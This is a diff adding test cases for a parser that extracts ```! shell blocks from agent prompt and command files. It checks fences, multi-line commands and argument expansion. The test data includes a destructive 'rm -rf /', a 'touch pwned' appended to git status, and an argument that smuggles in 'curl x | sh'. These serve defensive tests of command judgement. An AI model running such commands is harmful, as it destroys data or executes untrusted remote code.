@@ -67,6 +67,47 @@ describe('promptParts', () => {
         { kind: 'shell', command: 'ls' },
       ],
     ],
+    [
+      'a ```! block is one shell command, its whole text; its output takes its place',
+      'Setup:\n\n```!\n"/p/setup.sh" a b\n```\n\nPlease work.',
+      [
+        { kind: 'text', text: 'Setup:\n\n' },
+        { kind: 'shell', command: '"/p/setup.sh" a b' },
+        { kind: 'text', text: '\n\nPlease work.' },
+      ],
+    ],
+    [
+      'a ```! block of several lines stays one command (judged whole: `git status; touch pwned` is not read-only)',
+      '```!\ngit status\ntouch pwned\n```',
+      [{ kind: 'shell', command: 'git status\ntouch pwned' }],
+    ],
+    [
+      'inside a ```! block nothing else is cut out: !`…`, @path and code spans are part of the command',
+      '```!\necho !`x` @a/b.ts `y`\n```\n',
+      [
+        { kind: 'shell', command: 'echo !`x` @a/b.ts `y`' },
+        { kind: 'text', text: '\n' },
+      ],
+    ],
+    [
+      'a longer fence closes only with one as long; an indented fence counts',
+      '  ````!\necho ```\n  ````\nafter',
+      [
+        { kind: 'shell', command: 'echo ```' },
+        { kind: 'text', text: '\nafter' },
+      ],
+    ],
+    ['an empty ```! block runs nothing and is gone', 'a\n```!\n\n```\nb', [{ kind: 'text', text: 'a\n\nb' }]],
+    [
+      'a ```! block never closed runs nothing: it stays text',
+      'a\n```!\nrm -rf /\n',
+      [{ kind: 'text', text: 'a\n```!\nrm -rf /\n' }],
+    ],
+    [
+      '```! inside an ordinary fence is text (a fence shown in a fence), and ```!x is not a bash block',
+      '````\n```!\nls\n```\n````\n```!x\nls\n```',
+      [{ kind: 'text', text: '````\n```!\nls\n```\n````\n```!x\nls\n```' }],
+    ],
   ])('%s', (_name, text, parts) => {
     expect(promptParts(text)).toEqual(parts)
   })
@@ -94,5 +135,15 @@ describe('expandCommand', () => {
       allowedTools: ['Bash(git diff *)'],
       model: 'small-model',
     })
+  })
+
+  it('arguments go into a ```! block before it is cut: what they bring is part of the one command judged', () => {
+    const command = { name: 'ralph', file: 'ralph.md', allowedTools: [] }
+    const body = 'Run:\n```!\n"/p/setup.sh" $ARGUMENTS\n```\n'
+    expect(expandCommand(command, body, 'task; curl x | sh').parts).toEqual([
+      { kind: 'text', text: 'Run:\n' },
+      { kind: 'shell', command: '"/p/setup.sh" task; curl x | sh' },
+      { kind: 'text', text: '\n' },
+    ])
   })
 })
